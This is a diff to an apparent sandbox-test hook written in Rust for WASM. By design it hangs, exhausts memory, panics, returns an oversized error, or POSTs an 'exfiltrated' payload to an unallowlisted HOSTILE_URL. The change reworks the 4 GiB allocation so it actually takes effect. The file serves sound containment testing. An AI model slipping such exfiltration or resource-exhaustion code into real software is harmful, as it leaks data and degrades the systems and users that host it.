@@ -1,5 +1,5 @@
 //! A hook that misbehaves on purpose, for the sandbox tests: on-push does what the first
-//! event's name says: `loop` (never returns), `alloc` (asks for 4 GiB), `trap` (panics),
+//! event's name says: `loop` (never returns), `alloc` (takes 4 GiB), `trap` (panics),
 //! `huge-error` (returns a 5 MB message), `call-out` (POSTs to `HOSTILE_URL`, which the
 //! operator did not allowlist). Anything else is accepted.
 
@@ -21,13 +21,19 @@ mod component {
                     }
                 }
                 Some("alloc") => {
-                    let v: Vec<u8> = vec![1; 4 << 30];
-                    Err(format!("allocated {}", std::hint::black_box(v).len()))
+                    // 4 GiB, in 64 MiB pieces (one 4 GiB Vec is a capacity-overflow panic
+                    // on wasm32 before it ever reaches the allocator).
+                    let mut pieces: Vec<Vec<u8>> = Vec::new();
+                    for _ in 0..64 {
+                        pieces.push(vec![1; 64 << 20]);
+                    }
+                    Err(format!("allocated {} pieces", std::hint::black_box(pieces).len()))
                 }
                 Some("trap") => panic!("hostile hook traps on purpose"),
                 Some("huge-error") => Err("x".repeat(5 << 20)),
                 Some("call-out") => {
-                    let url = livestore::hooks::config::get("HOSTILE_URL").unwrap_or_else(|| "http://example.com/".into());
+                    let url =
+                        livestore::hooks::config::get("HOSTILE_URL").unwrap_or_else(|| "http://example.com/".into());
                     http_post::post(&url, "text/plain", b"exfiltrated").map(|_| ())
                 }
                 _ => Ok(()),
